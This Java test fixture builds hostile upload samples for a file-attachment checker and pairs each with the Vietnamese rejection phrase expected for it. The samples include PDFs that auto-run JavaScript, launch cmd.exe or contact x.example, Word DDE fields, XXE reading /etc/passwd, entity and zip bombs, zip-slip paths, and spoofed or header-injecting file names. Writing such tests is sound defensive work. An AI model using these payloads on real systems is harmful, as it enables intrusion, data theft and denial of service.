package vn.hiepdong.attachment.check;

import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** Files that somebody means ill with, each made on the spot, and the words by which it is refused. */
final class HostileFiles {

    private static final String RELATION =
            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml";
    private static final String WORD = "<w:document xmlns:w=\"x\">%s</w:document>";
    private static final byte[] OLD_OFFICE = {
        (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0
    };

    private HostileFiles() {}

    /**
     * @param name as a browser sends it
     * @param words that stand in the sentence
     */
    record Hostile(String name, byte[] content, String words) {

        @Override
        public String toString() {
            return FileNames.clean(name) + ": " + words;
        }
    }

    static Stream<Hostile> all() {
        return Stream.of(pdfs(), polyglots(), offices(), entities(), archives(), names(), pictures())
                .flatMap(List::stream);
    }

    private static List<Hostile> pdfs() {
        return List.of(
                of("ma-lenh.pdf", Corpus.pdfWithScript(), "mã lệnh"),
                of(
                        "ma-lenh-khong-nen.pdf",
                        HostilePdfs.uncompressed("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
                        "mã lệnh"),
                of(
                        "ma-lenh-viet-khac.pdf",
                        HostilePdfs.uncompressed("/OpenAction << /S /J#61vaScr#69pt /#4AS (1) >>"),
                        "mã lệnh"),
                of(
                        "ma-lenh-trong-danh-sach.pdf",
                        HostilePdfs.hiddenInAnObjectStream("/S /JavaScript /JS (1)"),
                        "mã lệnh"),
                of(
                        "ma-lenh-theo-ten.pdf",
                        HostilePdfs.uncompressed("/Names << /JavaScript << /Names [] >> >>"),
                        "mã lệnh"),
                of(
                        "ma-lenh-khi-in.pdf",
                        HostilePdfs.uncompressed("/AA << /WP << /S /JavaScript /JS (1) >> >>"),
                        "mã lệnh"),
                of("chay-chuong-trinh.pdf", Corpus.pdfThatStartsAProgram(), "mã lệnh"),
                of("chay-khi-mo.pdf", HostilePdfs.uncompressed("/OpenAction << /S /Launch /F (cmd.exe) >>"), "mã lệnh"),
                of(
                        "goi-ve-nha.pdf",
                        HostilePdfs.uncompressed("/OpenAction << /S /URI /URI (http://x.example) >>"),
                        "mã lệnh"),
                of(
                        "goi-ve-nha-khi-dong.pdf",
                        HostilePdfs.uncompressed("/AA << /WC << /S /URI /URI (http://x.example) >> >>"),
                        "mã lệnh"),
                of(
                        "doc-may-khac.pdf",
                        HostilePdfs.uncompressed("/OpenAction << /S /GoToR /F (\\\\\\\\x.example\\\\a) /D [0 /Fit] >>"),
                        "mã lệnh"),
                of(
                        "gui-bieu-mau.pdf",
                        HostilePdfs.uncompressed("/OpenAction << /S /SubmitForm /F (http://x.example) >>"),
                        "mã lệnh"),
                of(
                        "nhap-du-lieu.pdf",
                        HostilePdfs.uncompressed("/OpenAction << /S /ImportData /F (a.fdf) >>"),
                        "mã lệnh"),
                of("phim.pdf", HostilePdfs.uncompressed("/X << /Type /Annot /Subtype /RichMedia >>"), "mã lệnh"),
                of("bieu-mau-dong.pdf", Corpus.pdfWithADynamicForm(), "mã lệnh"),
                of("co-tep-ben-trong.pdf", Corpus.pdfWithAFileInIt(), "tệp khác đính kèm"),
                of(
                        "co-ghim-tep.pdf",
                        HostilePdfs.uncompressed("/X << /Subtype /FileAttachment /FS << /EF << >> >> >>"),
                        "tệp khác đính kèm"),
                of("mat-khau.pdf", Corpus.pdfWithAPassword("bi-mat"), "mật khẩu"),
                of("bom.pdf", Corpus.pdfBomb("/Type /XRef /W [1 2 1] /Size 1"), "quá lớn khi mở ra"),
                of("bom-danh-sach.pdf", Corpus.pdfBomb("/Type /O#62jStm /N 1 /First 4"), "quá lớn khi mở ra"),
                of("bom-goi-la.pdf", Corpus.pdfPackedOtherwise(), "quá lớn khi mở ra"),
                of("vong-tron.pdf", HostilePdfs.pagesThatAreTheirOwnChildren(), "bị hỏng"),
                of("sau-khong-day.pdf", HostilePdfs.uncompressed("/X " + "[".repeat(200_000)), "bị hỏng"),
                of("cut.pdf", Arrays.copyOf(Corpus.pdf(), Corpus.pdf().length / 2), "bị hỏng"),
                of("chi-co-dau.pdf", Corpus.text("%PDF-1.4\n"), "bị hỏng"),
                of("khong-trang.pdf", Corpus.pdf(document -> document.removePage(0)), "bị hỏng"));
    }

    private static List<Hostile> polyglots() {
        var pdf = Corpus.pdf();
        var docx = Corpus.docx();
        return List.of(
                of("pdf-va-zip.pdf", Corpus.together(pdf, docx), "không thuộc về PDF"),
                of("pdf-om-zip.pdf", HostilePdfs.aroundAnArchive(docx), "không thuộc về PDF"),
                of(
                        "pdf-va-html.pdf",
                        Corpus.together(pdf, Corpus.text("<script>alert(1)</script>")),
                        "không thuộc về PDF"),
                of("html-va-pdf.pdf", Corpus.together(Corpus.text("<!-- -->"), pdf), ""),
                of("la-html.pdf", Corpus.text("<!DOCTYPE html><script>alert(1)</script>"), "nội dung không phải"),
                of("la-docx.pdf", docx, "nội dung không phải"),
                of("la-pdf.docx", pdf, "nội dung không phải"),
                of("la-exe.docx", Corpus.text("MZ\u0090\0\3\0\0\0"), "nội dung không phải"),
                of("la-xlsx.docx", Corpus.xlsx(), "không phải tệp Word"),
                of("la-docx.xlsx", docx, "không phải tệp Excel"),
                of("zip-va-dau.docx", Corpus.together(new byte[] {'P', 'K', 3, 4, 0, 0, 0, 0}, docx), "bị hỏng"),
                of("zip-va-duoi.docx", Corpus.together(docx, Corpus.text("<script>")), "bị hỏng"),
                of("gif-va-js.gif", Corpus.text("GIF89a/*" + "x".repeat(99) + "*/=1;alert(1)"), "không thuộc loại"),
                of("gif-va-js.jpg", Corpus.text("GIF89a/*" + "x".repeat(99) + "*/=1;alert(1)"), "nội dung không phải"));
    }

    private static List<Hostile> offices() {
        var dde = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText>";
        return List.of(
                of("thieu-muc-luc.docx", Corpus.docxWithout("[Content_Types].xml"), "không phải tệp Word"),
                of("macro.docx", Corpus.docxWith("word/vbaProject.bin", "x"), "có macro"),
                of("macro-viet-hoa.docx", Corpus.docxWith("word/VBAPROJECT.BIN", "x"), "có macro"),
                of("docm-doi-ten.docx", Corpus.docxOfKind(MACROS), "có macro"),
                of("trang-macro.xlsx", Corpus.xlsxWith("xl/macrosheets/sheet1.xml", "<x/>"), "có macro"),
                of("activex.docx", Corpus.docxWith("word/activeX/activeX1.xml", "<x/>"), "có macro"),
                of("ole.docx", Corpus.docxWith("word/embeddings/oleObject1.bin", "x"), "nhúng bên trong"),
                of("exe.docx", Corpus.docxWith("word/embeddings/a.exe", "MZ"), "nhúng bên trong"),
                of("exe-la-anh.docx", Corpus.docxWith("word/media/image1.png", "MZ\0\0"), "nhúng bên trong"),
                of("zip-la-anh.docx", Corpus.docxWith("word/media/image1.png", "PK\3\4\0\0\0\0"), "nhúng bên trong"),
                of(
                        "macro-hai-lop.docx",
                        Corpus.docxWith("word/embeddings/a.xlsx", Corpus.xlsxWith("xl/vbaProject.bin", "x")),
                        "có macro"),
                of(
                        "ba-lop.docx",
                        Corpus.docxWith("word/embeddings/a.xlsx", Corpus.xlsxWith("xl/embeddings/b.xlsx", "PK")),
                        "nhúng bên trong"),
                of("quan-he-ole.docx", Corpus.docxWithRelationship(RELATION + "oleObject\""), "nhúng bên trong"),
                of("manh-html.docx", Corpus.docxWithRelationship(RELATION + "aFChunk\""), "nhúng bên trong"),
                of(
                        "mau-o-ngoai.docx",
                        Corpus.docxWithRelationship(RELATION + "attachedTemplate\" TargetMode=\"External\""),
                        "bên ngoài"),
                of(
                        "anh-o-ngoai.docx",
                        Corpus.docxWithRelationship(RELATION + "image\" TargetMode=\"External\""),
                        "bên ngoài"),
                of("dde.docx", Corpus.docxWith("word/document.xml", WORD.formatted(dde)), "tự chạy"),
                of(
                        "lay-anh.docx",
                        Corpus.docxWith(
                                "word/header1.xml",
                                WORD.formatted(
                                        "<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;http://x.example/a&quot;\"/>")),
                        "tự chạy"),
                of(
                        "dde.xlsx",
                        Corpus.xlsxWith(
                                "xl/externalLinks/externalLink1.xml",
                                "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"),
                        "tự chạy"),
                of("dat-mat-khau.docx", OLD_OFFICE, "nội dung không phải"),
                of("doi-cu.doc", OLD_OFFICE, "lưu thành .docx"),
                of("macro.docm", Corpus.docx(), "lưu thành .docx"),
                of("doi-cu.xls", OLD_OFFICE, "lưu thành .xlsx"),
                of("macro.xlsm", Corpus.xlsx(), "lưu thành .xlsx"));
    }

    private static List<Hostile> entities() {
        var outside = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        var laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (var level = 1; level < 12; level++) {
            laughs.append("<!ENTITY l")
                    .append(level)
                    .append(" \"")
                    .append(("&l" + (level - 1) + ";").repeat(10))
                    .append("\">");
        }
        laughs.append("]><a>&l11;</a>");
        return List.of(
                of("thuc-the-muc-luc.docx", Corpus.docxWith("[Content_Types].xml", outside), "bị hỏng"),
                of("thuc-the-ngoai.docx", Corpus.docxWith("word/document.xml", outside), "bị hỏng"),
                of(
                        "thuc-the-utf16.docx",
                        Corpus.docxWith(
                                "word/document.xml", outside.getBytes(java.nio.charset.StandardCharsets.UTF_16)),
                        "bị hỏng"),
                of("thuc-the-ngoai.xlsx", Corpus.xlsxWith("xl/sharedStrings.xml", outside), "bị hỏng"),
                of("ty-tieng-cuoi.docx", Corpus.docxWith("word/document.xml", laughs.toString()), "bị hỏng"),
                of("ty-tieng-cuoi.xlsx", Corpus.xlsxWith("xl/workbook.xml", laughs.toString()), "bị hỏng"),
                of(
                        "dtd-o-ngoai.docx",
                        Corpus.docxWith(
                                "word/_rels/document.xml.rels", "<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>"),
                        "bị hỏng"),
                of(
                        "dtd-trong-hinh.xlsx",
                        Corpus.xlsxWith(
                                "xl/drawings/vmlDrawing1.vml", "<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a>"),
                        "bị hỏng"));
    }

    private static List<Hostile> archives() {
        var docx = Corpus.docx();
        return List.of(
                of("goi.zip", docx, "tệp nén"),
                of("la-zip.docx", Corpus.zip(Map.of("a.txt", new byte[9])), "không phải tệp Word"),
                of("cut.docx", Arrays.copyOf(docx, docx.length / 2), "bị hỏng"),
                of("bom-ty-le.docx", Corpus.docxBomb(), "quá lớn khi mở ra"),
                of("bom-nhieu-phan.docx", Corpus.docxOfManyParts(), "quá lớn khi mở ra"),
                of(
                        "bom-tong.docx",
                        new RawZip()
                                .part("word/a.xml", HostilePdfs.noise(4_900_000))
                                .part("word/b.xml", new byte[4_900_000], 60)
                                .bytes(),
                        "quá lớn khi mở ra"),
                of(
                        "bom-chong-len-nhau.docx",
                        new RawZip()
                                .part("word/a.xml", HostilePdfs.noise(9_000), 200)
                                .bytes(),
                        "quá lớn khi mở ra"),
                of(
                        "bom-hai-lop.docx",
                        Corpus.docxWith("word/embeddings/a.xlsx", Corpus.xlsxWith("xl/a.xml", new byte[40_000_000])),
                        "quá lớn khi mở ra"),
                of("ra-ngoai.docx", Corpus.docxWith("../../etc/cron.d/x", "x"), "bị hỏng"),
                of("ra-ngoai-windows.docx", Corpus.docxWith("word\\..\\..\\x.bat", "x"), "bị hỏng"),
                of("tu-goc.docx", Corpus.docxWith("/etc/passwd", "x"), "bị hỏng"),
                of("o-dia.docx", Corpus.docxWith("C:/x.bat", "x"), "bị hỏng"),
                of(
                        "hai-lan.docx",
                        new RawZip()
                                .part("word/document.xml", new byte[9])
                                .part("word/document.xml", new byte[8])
                                .bytes(),
                        "bị hỏng"),
                of("hoa-thuong.docx", Corpus.docxWith("WORD/document.XML", "<a/>"), "bị hỏng"),
                of(
                        "ma-hoa.docx",
                        new RawZip()
                                .encrypted()
                                .part("word/document.xml", new byte[9])
                                .bytes(),
                        "bị hỏng"));
    }

    private static List<Hostile> names() {
        var pdf = Corpus.pdf();
        var program = Corpus.text("MZ\u0090\0\3\0\0\0");
        return List.of(
                of("trang.html", Corpus.text("<html>"), "không thuộc loại"),
                of("ve.svg", Corpus.text("<svg xmlns=\"http://www.w3.org/2000/svg\"/>"), "không thuộc loại"),
                of("chay.exe", program, "không thuộc loại"),
                of("hop-dong.pdf.exe", program, "không thuộc loại"),
                of("hop-dong.pdf .exe", program, "không thuộc loại"),
                of("hop-dong\u202Efdp.exe", program, "không thuộc loại"),
                of("hop-dong.exe\0.pdf", program, "nội dung không phải"),
                of("hop-dong.pdf\0.exe", pdf, "không thuộc loại"),
                of(
                        "a.html\r\nContent-Type: text/html\r\n\r\n.pdf",
                        Corpus.text("<script>alert(1)</script>"),
                        "nội dung không phải"),
                of("../../x", pdf, "không thuộc loại"),
                of("C:\\x", pdf, "không thuộc loại"),
                of("nul", pdf, "không thuộc loại"),
                of("pdf", pdf, "không thuộc loại"),
                of(".pdf", pdf, "không thuộc loại"),
                of("x".repeat(300) + ".jsp", pdf, "không thuộc loại"),
                of("khong-duoi", pdf, "không thuộc loại"),
                of("rong.pdf", new byte[0], "nội dung không phải"),
                of("rong.docx", new byte[0], "nội dung không phải"));
    }

    private static List<Hostile> pictures() {
        return List.of(
                of("trang.jpg", Corpus.text("<!DOCTYPE html><script>alert(1)</script>"), "nội dung không phải"),
                of(
                        "ve.png",
                        Corpus.text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
                        "nội dung không phải"),
                of(
                        "lenh.jpg",
                        Corpus.text("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x.example|id)'"),
                        "nội dung không phải"),
                of("goi.jpg", Corpus.docx(), "nội dung không phải"),
                of("la-png.jpg", Photos.png(20, 20), "nội dung không phải"),
                of("la-jpg.webp", Photos.jpeg(20, 20), "nội dung không phải"),
                of("rong.jpg", new byte[0], "nội dung không phải"),
                of("dien-thoai.HEIC", Corpus.text("ftypheic"), "đổi sang JPG"),
                of("cut.jpg", Arrays.copyOf(Photos.jpeg(200, 200), 200), "không mở được"),
                of("cut.png", Arrays.copyOf(Photos.png(200, 200), 60), "không mở được"),
                of("khong-co-diem.png", HostilePictures.png(0, 0), "không mở được"),
                of("khong-lo.png", Photos.enormousPng(), "triệu điểm ảnh"),
                of("khong-lo.jpg", HostilePictures.jpegThatSays(65_500, 65_500), "triệu điểm ảnh"),
                of("khong-lo.webp", HostilePictures.webpThatSays(16_384, 16_384), "triệu điểm ảnh"),
                of("khong-lo-khung.webp", HostilePictures.webpOnASheet(16_384, 16_384), "triệu điểm ảnh"));
    }

    private static Hostile of(String name, byte[] content, String words) {
        return new Hostile(name, content, words);
    }
}
